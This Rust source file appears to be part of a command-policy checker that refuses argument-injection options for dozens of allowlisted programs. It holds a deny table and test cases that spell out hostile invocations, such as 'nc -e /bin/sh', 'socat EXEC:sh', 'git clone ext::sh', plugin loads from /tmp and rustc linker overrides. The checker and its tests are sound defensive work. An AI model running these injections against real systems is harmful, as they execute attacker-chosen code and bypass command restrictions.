//! Argument injection through allowlisted programs: options that make a program run another
//! program or code named by their value, load a shared library, or write where they should not
//! (`sort --compress-program`, `split --filter`, `openssl -engine`), kept as one table row per
//! program and read in every spelling its option parser accepts.

use std::path::Path;

use super::apt::{check_apt, APT_PROGRAMS};
use super::clients::check_clients;
use super::code_args::{check_make, check_sqlite, check_ssh};
use super::extract_paths::check_extract;
use super::git::check_git;
use super::packages;
use super::rustup::check_rustup;
use super::sed::check_sed;
use super::sysctl::check_sysctl;
use super::version_managers::check_version_manager;

/// The forbidden arguments of one program.
struct Rule {
    /// Program names (real file name or typed basename).
    programs: &'static [&'static str],
    /// Short option letters refused anywhere in a `-abc` cluster (a letter may also be a
    /// value; refusing more is fine).
    short: &'static str,
    /// Long options refused as `--name`, `--name=value`, with a separate value, or as any
    /// abbreviation `--na...` (`getopt_long` takes any unique prefix, so `--compress-p=sh` is
    /// `--compress-program=sh`; a prefix another option shares is refused too).
    long: &'static [&'static str],
    /// Options spelled with one dash and a whole word (`find -exec`, `openssl -engine`), refused
    /// as `-word`, `--word`, `-word=value` or `--word=value` (OpenSSL 3 reads all four).
    words: &'static [&'static str],
    /// Prefixes refused at the start of an argument whose leading `--` is read as `-`: options
    /// whose value is attached (`-B/dir`, `-fplugin=x.so`) and response files (`@file`).
    attached: &'static [&'static str],
    /// Arguments refused when equal (subcommands).
    exact: &'static [&'static str],
    /// Substrings refused anywhere in an argument (compared in lower case).
    substrings: &'static [&'static str],
    /// Whether the first argument is a short-option cluster even without `-` (old tar style).
    bare_cluster_first: bool,
    /// An argument without which the program runs code the workspace holds, and that code
    /// (`javac` runs the annotation processors of its class path unless `-proc:none`).
    needs: Option<(&'static str, &'static str)>,
}

impl Rule {
    /// A row that refuses nothing, to fill in with `..Rule::NONE`.
    const NONE: Rule = Rule {
        programs: &[],
        short: "",
        long: &[],
        words: &[],
        attached: &[],
        exact: &[],
        substrings: &[],
        bare_cluster_first: false,
        needs: None,
    };
}

/// One row per program whose options run a program or code named by their value (or load a
/// shared library), from each program's `--help` and manual page.
const RULES: &[Rule] = &[
    Rule {
        programs: &["git"],
        short: "c",
        long: &[
            "config-env",
            "config",
            "exec-path",
            "upload-pack",
            "receive-pack",
            "exec",
            "template",
            "output",
            "extcmd",
            "tool",
            "open-files-in-pager",
        ],
        // Config keys are checked by `git::code_running_key`.
        substrings: &["ext::", "fd::"],
        ..Rule::NONE
    },
    Rule {
        programs: &["find"],
        words: &[
            "exec", "execdir", "ok", "okdir", "delete", "fprint", "fprint0", "fprintf", "fls",
        ],
        ..Rule::NONE
    },
    Rule {
        programs: &["tar", "gtar", "bsdtar"],
        short: "IF",
        long: &[
            "to-command",
            "checkpoint-action",
            "use-compress-program",
            "rsh-command",
            "info-script",
            "new-volume-script",
            "rmt-command",
        ],
        bare_cluster_first: true,
        ..Rule::NONE
    },
    Rule {
        programs: &["rsync"],
        short: "eM",
        long: &["rsh", "rsync-path", "remote-option", "daemon", "config"],
        ..Rule::NONE
    },
    Rule {
        programs: &["ssh"],
        // `-I` loads a PKCS#11 library, `-E` appends to any file.
        short: "oFSIE",
        substrings: &["proxycommand", "localcommand"],
        ..Rule::NONE
    },
    Rule {
        programs: &["scp"],
        short: "oFS",
        substrings: &["proxycommand", "localcommand"],
        ..Rule::NONE
    },
    Rule {
        programs: &["sftp"],
        short: "oFSD",
        substrings: &["proxycommand", "localcommand"],
        ..Rule::NONE
    },
    Rule {
        programs: &["zip"],
        short: "T",
        long: &["unzip-command"],
        ..Rule::NONE
    },
    Rule {
        programs: &["npm", "npx", "pnpm", "pnpx", "yarn", "bunx"],
        // `-c`: `npm exec -c`, `npx -c`, `pnpm exec -c` run a shell command.
        short: "c",
        long: &[
            "call",
            "shell-mode",
            "script-shell",
            "shell",
            "node-options",
            "editor",
            "browser",
            "git",
            "userconfig",
            "init-module",
            "onload-script",
        ],
        ..Rule::NONE
    },
    Rule {
        programs: &["socat"],
        // Address types that run a program (case-insensitive).
        substrings: &["exec:", "system:", "shell:"],
        ..Rule::NONE
    },
    Rule {
        programs: &["nc", "ncat", "netcat"],
        short: "ec",
        long: &["exec", "sh-exec", "lua-exec"],
        ..Rule::NONE
    },
    Rule {
        programs: &["tcpdump"],
        // `-z`: a post-rotate command.
        short: "z",
        ..Rule::NONE
    },
    Rule {
        programs: &["wget"],
        short: "e",
        long: &["use-askpass", "execute", "config"],
        ..Rule::NONE
    },
    Rule {
        programs: &["openssl"],
        // Options that load a shared library.
        // Options that load a shared library, directly or through a configuration file
        // (`openssl_conf` -> an engine's `dynamic_path`), and the `engine` command itself.
        words: &[
            "engine",
            "provider",
            "provider-path",
            "config",
            "conf",
            "pre",
            "post",
        ],
        exact: &["engine"],
        ..Rule::NONE
    },
    Rule {
        // coreutils sort(1): `--compress-program=PROG` runs PROG on its temporary files.
        programs: &["sort", "gsort"],
        long: &["compress-program"],
        ..Rule::NONE
    },
    Rule {
        // GNU patch(1): `-e`/`--ed` feeds the patch to ed(1), whose `!command` runs a shell
        // command in patch before 2.7.6 (CVE-2018-1000156); `-g`/`--get` runs the version
        // control programs `co`, `get` or `p4` on the files the patch names.
        programs: &["patch", "gpatch"],
        short: "eg",
        long: &["ed", "get"],
        ..Rule::NONE
    },
    Rule {
        // coreutils split(1): `--filter=COMMAND` writes each piece to a shell COMMAND.
        programs: &["split", "gsplit"],
        long: &["filter"],
        ..Rule::NONE
    },
    Rule {
        // diffutils diff3(1): `--diff-program=PROGRAM` compares the files.
        programs: &["diff3"],
        long: &["diff-program"],
        ..Rule::NONE
    },
    Rule {
        // diffutils sdiff(1): `--diff-program=PROGRAM`; `-o`/`--output` merges interactively,
        // reading commands from stdin, and its `e` command runs an editor.
        programs: &["sdiff"],
        short: "o",
        long: &["diff-program", "output"],
        ..Rule::NONE
    },
    Rule {
        // coreutils install(1): `--strip-program=PROGRAM` runs PROGRAM on the installed file.
        programs: &["install", "ginstall"],
        long: &["strip-program"],
        ..Rule::NONE
    },
    Rule {
        // GNU cpio(1): `--rsh-command=COMMAND` runs COMMAND for a remote archive.
        programs: &["cpio"],
        long: &["rsh-command"],
        ..Rule::NONE
    },
    Rule {
        // gpg(1): programs it runs (`--photo-viewer`, `--exec-path`, `--agent-program`, ...),
        // `show-photos` (runs the photo viewer), and a configuration file or home directory
        // (`gpg.conf`) that can name any of them.
        programs: &["gpg", "gpg2"],
        long: &[
            "photo-viewer",
            "exec-path",
            "agent-program",
            "dirmngr-program",
            "keyboxd-program",
            "options",
            "homedir",
        ],
        substrings: &["show-photos"],
        ..Rule::NONE
    },
    Rule {
        // dpkg(1): hooks that run a shell command; `-i`/`--install`, `--unpack` and
        // `-R`/`--recursive` install the package files the line names (their maintainer
        // scripts run as root: a `.deb` of the workspace is workspace code); `--root`,
        // `--admindir` and `--instdir` take the database and the maintainer scripts of
        // installed packages from another directory; `--log` appends to any file.
        programs: &["dpkg"],
        short: "iR",
        long: &[
            "pre-invoke",
            "post-invoke",
            "status-logger",
            "install",
            "unpack",
            "recursive",
            "root",
            "admindir",
            "instdir",
            "log",
        ],
        ..Rule::NONE
    },
    Rule {
        // dpkg-architecture(1): `-c`/`--command` runs a command in its environment.
        programs: &["dpkg-architecture"],
        short: "c",
        long: &["command"],
        ..Rule::NONE
    },
    Rule {
        // rustc: `-C linker=PROG` and `-C link-arg(s)` run a linker of the line's choosing,
        // `-C llvm-args` and `-Z` (`codegen-backend=x.so`, `llvm-plugins`) load code,
        // `-L`, `--extern` and `--sysroot` take crates (procedural macros, which run while
        // compiling) from any directory, `@file` reads any of these from a file. rustdoc takes
        // the same options, and `--test` runs the doctests it compiles. (Attack review 2,
        // repro 6: `rustc -C linker=./evil.sh x.rs` ran the script.)
        // rustc reads `_` as `-` in `-C` keys (`link_arg`, attack review 3's 2), and
        // clippy-driver is rustc with lints: the same options.
        programs: &["rustc", "rustdoc", "clippy-driver"],
        long: &[
            "test",
            "extern",
            "sysroot",
            "test-builder",
            "test-builder-wrapper",
            "runtool",
            "test-runtool",
        ],
        attached: &["-Z", "-L", "-extern", "-sysroot", "@"],
        substrings: &[
            "linker=",
            "link-arg",
            "link_arg",
            "llvm-args",
            "llvm_args",
            "codegen-backend",
            "codegen_backend",
            "linker-",
            "linker_",
        ],
        ..Rule::NONE
    },
    Rule {
        // javac(1): annotation processors run from the class path (`.` by default, where a
        // `META-INF/services` file names them) unless `-proc:none`; plugins (`-Xplugin`), the
        // processor path, JVM options (`-J-javaagent:`) and `@file` load code. (Attack review
        // 2, repro 16: `javac X.java` ran a processor the workspace held.)
        programs: &["javac"],
        attached: &["-Xplugin", "-processor", "-J", "@", "-plugin"],
        needs: Some((
            "-proc:none",
            "the annotation processors the class path names",
        )),
        ..Rule::NONE
    },
    Rule {
        // javadoc(1): doclets and taglets are classes it loads and runs; `-J` passes JVM
        // options (`-J-javaagent:`); `@file` reads options from a file.
        programs: &["javadoc"],
        words: &[
            "doclet",
            "docletpath",
            "doclet-path",
            "taglet",
            "tagletpath",
            "taglet-path",
        ],
        attached: &["-J", "@"],
        ..Rule::NONE
    },
    Rule {
        // Kotlin and Scala compilers: compiler plugins, JVM options and `@file`.
        programs: &["kotlinc", "kotlinc-jvm", "scalac"],
        attached: &["-Xplugin", "-J", "@"],
        ..Rule::NONE
    },
    Rule {
        // keytool(1): `-providerpath`/`-providerclass` load a security provider's classes
        // (from the working directory too); `-J` passes JVM options. jarsigner(1) takes the same
        // (attack review 3's 10).
        programs: &["keytool", "jarsigner"],
        words: &["providerpath", "providerclass"],
        attached: &["-J"],
        ..Rule::NONE
    },
    Rule {
        // jlink(1): `--plugin-module-path` loads plugins from a directory; `-J` and `@file`.
        programs: &["jlink"],
        words: &["plugin-module-path"],
        attached: &["-J", "@"],
        ..Rule::NONE
    },
    Rule {
        // jcmd(1): `JVMTI.agent_load` loads a library or agent into a running JVM,
        // `ManagementAgent.start` and `VM.start_java_debugging` open it to remote control,
        // `-f` reads commands from a file; `-J` passes JVM options.
        programs: &["jcmd"],
        short: "f",
        attached: &["-J"],
        substrings: &[
            "jvmti.agent_load",
            "managementagent.start",
            "vm.start_java_debugging",
        ],
        ..Rule::NONE
    },
    Rule {
        // gpgtar(1): `--gpg PROG` runs PROG as gpg, `--gpg-args` passes it options
        // (`--exec-path`, ...). (Attack review 2, repro 16: ran.)
        programs: &["gpgtar"],
        long: &["gpg", "gpg-args"],
        ..Rule::NONE
    },
    Rule {
        // groff(1)/troff(1): `-U` (unsafe mode) lets the document run commands (`.sy`,
        // `.pi`). (Attack review 2, repro 16: `groff -U x.ms` ran its `.sy`.)
        programs: &["groff", "troff", "nroff"],
        short: "U",
        ..Rule::NONE
    },
    Rule {
        // LLVM tools: `-load` and `-load-pass-plugin` load a shared library (attack review 2,
        // repro 16: `opt -load ./x.so` ran its constructor); clang-tidy's `--load` too.
        // `@file` reads options from a file (attack review 3's 4: `opt @opts` loaded a plugin).
        programs: &["opt", "llc", "clang-tidy", "clang-query", "mlir-opt"],
        words: &["load", "load-pass-plugin", "pass-plugin", "plugin"],
        attached: &["@"],
        ..Rule::NONE
    },
    Rule {
        // rpcgen(1): `-Y DIR` runs the C preprocessor found in DIR.
        programs: &["rpcgen"],
        short: "Y",
        ..Rule::NONE
    },
    Rule {
        // pgbench(1): `-f`/`--file` runs a script whose `\shell` and `\setshell` run commands.
        programs: &["pgbench"],
        short: "f",
        long: &["file"],
        ..Rule::NONE
    },
    Rule {
        // systemd-tmpfiles(8): creating, removing and cleaning apply configuration files (one
        // of the line's choosing among them) that write, link and chown anywhere as root.
        programs: &["systemd-tmpfiles"],
        long: &[
            "create", "remove", "clean", "purge", "boot", "root", "image", "replace",
        ],
        ..Rule::NONE
    },
    Rule {
        // sysctl(8): `-w`, `-p`/`-f FILE` and `--system` write kernel settings
        // (`kernel.core_pattern=|prog` runs a program as root); an operand `key=value` does too
        // ([`sysctl`](super::sysctl), which reads `-r PATTERN` as no operand).
        programs: &["sysctl"],
        short: "wpf",
        long: &["write", "load", "system"],
        ..Rule::NONE
    },
    Rule {
        // update-alternatives(1): `--install`, `--set`, `--config`, `--auto`, `--all`,
        // `--remove*` and `--set-selections` change which file a system program name runs;
        // `--altdir`, `--admindir`, `--root` and `--log` name other directories or files.
        programs: &["update-alternatives", "alternatives"],
        long: &[
            "install",
            "set",
            "config",
            "auto",
            "all",
            "remove",
            "remove-all",
            "set-selections",
            "altdir",
            "admindir",
            "root",
            "log",
        ],
        ..Rule::NONE
    },
    Rule {
        // curl(1): `-K`/`--config` reads options (an engine among them) from a file,
        // `--engine` loads an OpenSSL engine.
        programs: &["curl"],
        short: "K",
        long: &["config", "engine"],
        ..Rule::NONE
    },
    Rule {
        // binutils ar(1), nm(1), ranlib(1): `--plugin NAME` loads a shared library.
        programs: &["ar", "nm", "ranlib", "gcc-ar", "gcc-nm", "gcc-ranlib"],
        long: &["plugin"],
        ..Rule::NONE
    },
    Rule {
        // Compiler drivers: `-wrapper prog,args` runs the compiler's programs under `prog`,
        // `-B dir` takes them from `dir`, `-specs=file` can rewrite their command lines,
        // `-fplugin=` and `-fpass-plugin=` load a shared library, `-fuse-ld=/path` and
        // `--ld-path=` name the linker, `-Xclang -load` and a linker `-plugin` load code, and
        // `@file` reads any of these from a file.
        programs: &["gcc", "cc", "c++", "g++", "clang", "clang++", "c89", "c99"],
        attached: &[
            "-wrapper",
            "-B",
            "-specs",
            "-fplugin",
            "-fpass-plugin",
            "-fuse-ld",
            "-ld-path",
            "-Xclang",
            "-plugin",
            "@",
        ],
        substrings: &[",-plugin", ",--plugin", ",-fplugin"],
        ..Rule::NONE
    },
    Rule {
        // ld(1): `-plugin` loads a shared library; `@file` reads options from a file.
        programs: &["ld", "ld.bfd", "ld.gold", "ld.lld", "lld"],
        attached: &["-plugin", "@"],
        ..Rule::NONE
    },
    Rule {
        // ssh-keygen(1): `-D pkcs11` and `-w provider` load a shared library.
        programs: &["ssh-keygen"],
        short: "Dw",
        ..Rule::NONE
    },
    Rule {
        // ssh-add(1): `-s pkcs11` and `-S provider` make the agent load a shared library.
        programs: &["ssh-add"],
        short: "sS",
        ..Rule::NONE
    },
    Rule {
        // s-nail/mailx(1): `-S mta=PROG` (any variable), `-X`/`-Y` run commands, `-~`
        // enables tilde escapes (`~!` runs a shell) in the message read from stdin.
        programs: &[
            "mail",
            "mailx",
            "s-nail",
            "bsd-mailx",
            "heirloom-mailx",
            "nail",
        ],
        short: "SXY~",
        ..Rule::NONE
    },
];

fn check_rule(rule: &Rule, program: &str, args: &[String]) -> Result<(), String> {
    let refuse = |arg: &str, what: &str| {
        Err(format!(
            "argument injection: `{program}` {what} `{arg}` is not allowed"
        ))
    };
    if let Some((needed, what)) = rule.needs {
        // Another value of the same option (`-proc:full` beside `-proc:none`) counts as none.
        let stem = &needed[..needed.find([':', '=']).map_or(needed.len(), |at| at + 1)];
        let other = args.iter().any(|a| a.starts_with(stem) && a != needed);
        if other || !args.iter().any(|a| a == needed) {
            return Err(packages::runs_workspace_code(
                program,
                &format!("{what} unless given `{needed}`"),
            ));
        }
    }
    for (index, arg) in args.iter().enumerate() {
        if rule.exact.contains(&arg.as_str()) {
            return refuse(arg, "action");
        }
        let one_dash = arg
            .strip_prefix('-')
            .map(|rest| match rest.strip_prefix('-') {
                Some(long) => format!("-{long}"),
                None => arg.clone(),
            });
        if let Some(one_dash) = &one_dash {
            let word = one_dash[1..]
                .split_once('=')
                .map_or(&one_dash[1..], |(w, _)| w);
            // Any case: Java's tools differ (`keytool -providerpath`, `jarsigner -providerPath`).
            if rule.words.iter().any(|w| w.eq_ignore_ascii_case(word)) {
                return refuse(arg, "option");
            }
        }
        if let Some(prefix) = rule
            .attached
            .iter()
            .find(|p| one_dash.as_deref().unwrap_or(arg).starts_with(*p))
        {
            return refuse(arg, &format!("option `{prefix}`:"));
        }
        let lower = arg.to_lowercase();
        if let Some(sub) = rule.substrings.iter().find(|s| lower.contains(*s)) {
            return refuse(arg, &format!("argument containing `{sub}`:"));
        }
        if let Some(long) = arg.strip_prefix("--") {
            let name = long.split_once('=').map_or(long, |(n, _)| n);
            if !name.is_empty() && rule.long.iter().any(|l| l.starts_with(name)) {
                return refuse(arg, "option");
            }
            continue;
        }
        let cluster = match arg.strip_prefix('-') {
            Some(c) => Some(c),
            None if rule.bare_cluster_first && index == 0 => Some(arg.as_str()),
            None => None,
        };
        if let Some(cluster) = cluster {
            if cluster.chars().any(|c| rule.short.contains(c)) {
                return refuse(arg, "option");
            }
        }
    }
    Ok(())
}

/// Where a command runs: its working directory, and the directory whose repository is trusted
/// (the working directory when not given).
#[derive(Clone, Copy, Debug, Default)]
pub struct Place<'a> {
    /// The working directory.
    pub cwd: Option<&'a Path>,
    /// The trusted directory (the workspace root).
    pub root: Option<&'a Path>,
}

impl<'a> Place<'a> {
    /// Runs in `cwd`, which is trusted.
    pub fn at(cwd: &'a Path) -> Self {
        Place {
            cwd: Some(cwd),
            root: None,
        }
    }

    /// The trusted directory: `root`, else the working directory.
    pub fn trusted_root(&self) -> Option<&'a Path> {
        self.root.or(self.cwd)
    }
}

/// Checks `args` (argv without argv[0]) of the program known as `names` (its real file name,
/// typed basename and their [variant names](super::names::variant_names)) for argument
/// injection; `place` is where the command runs.
pub fn check_arguments(names: &[&str], args: &[String], place: Place) -> Result<(), String> {
    for name in names {
        if let Some(rule) = RULES.iter().find(|r| r.programs.contains(name)) {
            check_rule(rule, name, args)?;
        }
        check_clients(name, args)?;
        match *name {
            "git" => check_git(args, place)?,
            "sed" | "gsed" => check_sed(args)?,
            "sysctl" => check_sysctl(args)?,
            "ssh" => check_ssh(args)?,
            "sqlite3" | "sqlite" => check_sqlite(args)?,
            "make" | "gmake" | "bmake" | "pmake" => check_make(args, place.cwd)?,
            "npm" | "pnpm" | "yarn" | "npx" | "pnpx" | "bunx" => {
                packages::check_node_package_manager(name, args, place)?
            }
            "pip" => packages::check_pip(args, place.cwd)?,
            "rustup" => check_rustup(names, args, place.cwd)?,
            _ if APT_PROGRAMS.contains(name) => check_apt(name, args, place.cwd)?,
            _ => {}
        }
        packages::check_workspace_runner(name, args)?;
        check_version_manager(name, args, place.cwd)?;
        check_extract(name, args, place)?;
    }
    Ok(())
}

/// Every entry of the option table in every spelling its program accepts, as `(program,
/// arguments)`: a long option as `--name=sh`, `--name sh` and two unique-prefix abbreviations
/// (`getopt_long` accepts any unique prefix), a short letter alone, with its value attached and
/// inside a cluster, a word option with one or two dashes and with `=value`, an attached prefix
/// with a value (and with `--` for a dashed one), a substring inside an argument in upper and
/// lower case, and an exact argument; each behind an operand too (GNU programs read options
/// after operands).
#[cfg(test)]
pub(crate) fn refused_spellings() -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    for rule in RULES {
        let mut spellings: Vec<String> = Vec::new();
        for long in rule.long {
            let half = &long[..long.len().div_ceil(2)];
            let most = &long[..long.len() - 1];
            spellings.push(format!("--{long}=sh"));
            spellings.push(format!("--{long} sh"));
            spellings.push(format!("--{half}=sh"));
            spellings.push(format!("--{most} sh"));
        }
        for letter in rule.short.chars() {
            spellings.push(format!("-{letter} sh"));
            spellings.push(format!("-{letter}sh"));
            spellings.push(format!("-v{letter} sh"));
        }
        for word in rule.words {
            spellings.push(format!("-{word} sh"));
            spellings.push(format!("--{word} sh"));
            spellings.push(format!("-{word}=sh"));
            spellings.push(format!("--{word}=sh"));
        }
        for prefix in rule.attached {
            spellings.push(format!("{prefix}sh"));
            if prefix.starts_with('-') {
                spellings.push(format!("-{prefix}=sh"));
            }
        }
        for sub in rule.substrings {
            spellings.push(format!("x{sub}y"));
            spellings.push(format!("x{}y", sub.to_uppercase()));
        }
        for exact in rule.exact {
            spellings.push(exact.to_string());
        }
        if let Some((needed, _)) = rule.needs {
            // Past the argument the program needs, so that the option itself is refused.
            for spelling in &mut spellings {
                *spelling = format!("{needed} {spelling}");
            }
        }
        for program in rule.programs {
            for spelling in &spellings {
                out.push((*program, spelling.clone()));
                out.push((*program, format!("in.txt {spelling}")));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::shell::tests::argv;

    #[test]
    fn injection_tables() {
        let cases: &[(&str, &str, bool)] = &[
            ("git", "status", true),
            ("git", "log --oneline -n 5", true),
            ("git", "commit -am msg", true),
            ("git", "push -u origin main", true),
            ("git", "add -u", true),
            ("git", "diff --ext-diff", true),
            ("git", "-c core.pager=sh log", false),
            ("git", "--config-env=core.pager=X log", false),
            ("git", "--exec-path=/tmp status", false),
            ("git", "clone --upload-pack=sh x", false),
            ("git", "clone --upload-pa=sh x", false),
            ("git", "clone -u sh x", false),
            ("git", "push --receive-pack=sh x", false),
            ("git", "archive --remote=x --exec=sh", false),
            ("git", "clone ext::sh", false),
            ("git", "fetch fd::3", false),
            ("git", "log --format=core.fsmonitor", false),
            ("git", "rebase -x sh main", false),
            ("git", "rebase --exec=sh main", false),
            ("git", "diff --output=/tmp/x", false),
            ("git", "config alias.x !sh", false),
            ("git", "submodule foreach sh", false),
            // `-C` needs the working directory to judge its repository.
            ("git", "-C dir status", false),
            ("git", "--attr-source x config include.path /tmp/x", false),
            ("git", "--shallow-file x status", false),
            ("git", "grep -O sh pattern", false),
            ("git", "grep --open-files-in-pager=sh x", false),
            ("git", "grep -n pattern", true),
            ("git", "help -w log", false),
            ("rsync", "--daemon --config=x", false),
            ("find", ". -name x", true),
            ("find", ". -exec sh ;", false),
            ("find", ". -execdir sh ;", false),
            ("find", ". -ok sh ;", false),
            ("find", ". -delete", false),
            ("find", ". -fprintf out x", false),
            ("tar", "-xzf a.tgz", true),
            ("tar", "xzf a.tgz", true),
            ("tar", "--to-command=sh -xf a", false),
            ("tar", "--to-com=sh -xf a", false),
            ("tar", "-cf x --checkpoint-action=exec=sh .", false),
            ("tar", "-I sh -cf x .", false),
            ("tar", "cIf sh x .", false),
            ("tar", "-xF sh", false),
            ("rsync", "-avz a b", true),
            ("rsync", "-e sh a b", false),
            ("rsync", "-avze sh a b", false),
            ("rsync", "--rsh=sh a b", false),
            ("rsync", "--rsync-path=sh a b", false),
            ("ssh", "host uptime", false),
            ("ssh", "-N -L 1:h:2 host", true),
            ("ssh", "-I /tmp/p11.so -N host", false),
            ("npx", "tsc -p .", false),
            ("npx", "-c id", false),
            ("npm", "exec -c id", false),
            ("npm", "exec --call=id", false),
            ("npm", "test --script-shell=/tmp/x", false),
            ("npm", "install --global x", false),
            ("pnpm", "exec id", false),
            ("make", "--eval=x", false),
            ("make", "all", false),
            ("make", "--version", true),
            ("sqlite3", "db .shell", false),
            ("sqlite3", "db 'select 1'", true),
            ("socat", "- EXEC:sh", false),
            ("socat", "- system:sh", false),
            ("socat", "- TCP:host:80", true),
            ("ncat", "--sh-exec id host 1", false),
            ("nc", "-e /bin/sh host 1", false),
            ("nc", "host 80", true),
            ("tcpdump", "-z /tmp/x -w f", false),
            ("wget", "--use-askpass=/tmp/x u", false),
            ("wget", "-O out u", true),
            ("openssl", "req -engine /tmp/x.so", false),
            ("ssh", "-oProxyCommand=sh x", false),
            ("ssh", "-o ProxyCommand=sh x", false),
            ("ssh", "-F cfg x", false),
            ("scp", "-S sh a b", false),
            ("sftp", "-D sh host", false),
            ("zip", "-r a.zip dir", true),
            ("zip", "-T a.zip x", false),
            ("zip", "-TT sh a.zip x", false),
            ("zip", "--unzip-command sh a.zip", false),
            ("sed", "-n e id", false),
            ("sed", "s/a/b/", true),
            ("ls", "-exec", true),
            // Programs that run a program named by an option (seen by running them, see the
            // bypass corpus), and their plain forms.
            ("sort", "-S 16K -T /tmp --compress-program=sh in.txt", false),
            ("sort", "--compress-p=sh in.txt", false),
            ("sort", "-u in.txt", true),
            ("sort", "-t , -k 2n -o out.txt in.txt", true),
            ("split", "--filter=sh in.txt", false),
            ("split", "--fi sh in.txt", false),
            ("split", "-l 10 in.txt", true),
            ("diff3", "--diff-program=sh a b c", false),
            ("diff3", "-m a b c", true),
            ("sdiff", "-o out a b", false),
            ("sdiff", "--diff-prog=sh a b", false),
            ("sdiff", "-s a b", true),
            ("install", "-s --strip-program=sh a /tmp/b", false),
            ("install", "-m 644 a /tmp/b", true),
            ("gpg", "--photo-viewer sh --list-keys", false),
            ("gpg", "--list-options show-photos --list-keys", false),
            ("gpg", "--homedir /tmp/g --list-keys", false),
            ("gpg", "--verify a.sig a", true),
            ("curl", "-sSK cfg https://x", false),
            ("curl", "--engine /tmp/x.so https://x", false),
            ("curl", "-sSfL -o out https://x", true),
            ("cc", "-wrapper sh,-c,id a.c", false),
            ("gcc", "-B/tmp/evil a.c", false),
            ("gcc", "-fplugin=/tmp/x.so a.c", false),
            ("gcc", "-Wl,-plugin,/tmp/x.so a.c", false),
            ("gcc", "@opts a.c", false),
            ("gcc", "-O2 -Wall -o a a.c -lm", true),
            ("ar", "--plugin /tmp/x.so t a.a", false),
            ("ar", "rcs a.a b.o", true),
            ("openssl", "req -engine=/tmp/x.so", false),
            ("openssl", "req --engine /tmp/x.so", false),
            ("openssl", "req -config cfg -new", false),
            ("openssl", "engine /tmp/x.so", false),
            ("openssl", "x509 -in c.pem -noout -text", true),
            ("find", ". --exec sh ;", false),
            ("dpkg", "--post-invoke=sh -i x.deb", false),
            ("ssh-keygen", "-D /tmp/x.so", false),
            ("ssh-keygen", "-t ed25519 -f key -N x", true),
            ("mail", "-S mta=/tmp/x a@b", false),
        ];
        for (program, args, want) in cases {
            let got = check_arguments(&[program], &argv(args), Place::default());
            assert_eq!(got.is_ok(), *want, "{program} {args}: {got:?}");
        }
    }

    #[test]
    fn every_table_entry_is_refused_in_every_spelling() {
        let spellings = refused_spellings();
        let approved: Vec<String> = spellings
            .iter()
            .filter(|(program, args)| {
                check_arguments(&[program], &argv(args), Place::default()).is_ok()
            })
            .map(|(program, args)| format!("{program} {args}"))
            .collect();
        assert!(approved.is_empty(), "approved: {approved:#?}");
        assert!(spellings.len() > 500, "{}", spellings.len());
    }
}
